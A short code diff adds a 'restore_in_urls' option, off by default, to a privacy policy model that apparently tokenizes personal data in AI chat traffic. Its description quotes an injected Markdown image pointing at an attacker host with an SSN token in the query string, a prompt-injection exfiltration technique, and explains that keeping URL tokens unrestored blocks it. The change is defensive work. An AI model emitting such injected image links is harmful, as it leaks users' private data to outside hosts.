@@ -98,6 +98,12 @@ class Policy(_Model):
     version: Literal[1] = 1
     default_action: Action = "tokenize"
     user_sees_restored: bool = True
+    restore_in_urls: bool = Field(
+        False,
+        description="Restore tokens inside URLs (Markdown link/image targets, HTML tag attributes, "
+        "bare http(s):// or www. links).  Off: they stay tokens (refused, rule 'url-context'), so an "
+        "injected ![](https://attacker/?d=[SSN_1]) cannot make a chat UI send the value out.",
+    )
     defaults: EntityPolicy = Field(
         default_factory=EntityPolicy, description="Applies to entity types not listed under entities."
     )
